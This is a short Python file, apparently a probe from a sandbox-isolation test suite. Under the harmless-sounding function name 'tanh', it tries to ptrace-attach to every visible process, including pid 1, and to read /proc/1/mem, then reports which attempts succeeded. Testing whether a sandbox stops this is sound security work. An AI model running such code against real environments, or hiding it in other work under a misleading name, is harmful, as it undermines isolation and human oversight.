"""Attack: ptrace the sandbox's pid 1 (and every other process in sight) to run code outside the session."""

import ctypes
import os

PTRACE_ATTACH = 16
PTRACE_SEIZE = 0x4206


def tanh(_):
    libc = ctypes.CDLL(None, use_errno=True)
    outcomes = {}
    try:
        entries = os.listdir("/proc")
    except OSError:  # hidden: try the pids that exist everywhere
        entries = ["1", str(os.getppid())]
    for entry in entries:
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        for request in (PTRACE_ATTACH, PTRACE_SEIZE):
            if libc.ptrace(request, int(entry), None, None) == 0:
                outcomes[entry] = "attached"
                break
            outcomes[entry] = os.strerror(ctypes.get_errno())
    try:
        with open("/proc/1/mem", "rb") as memory:
            memory.read(1)
        outcomes["mem"] = "read"
    except OSError as error:
        outcomes["mem"] = type(error).__name__
    return outcomes
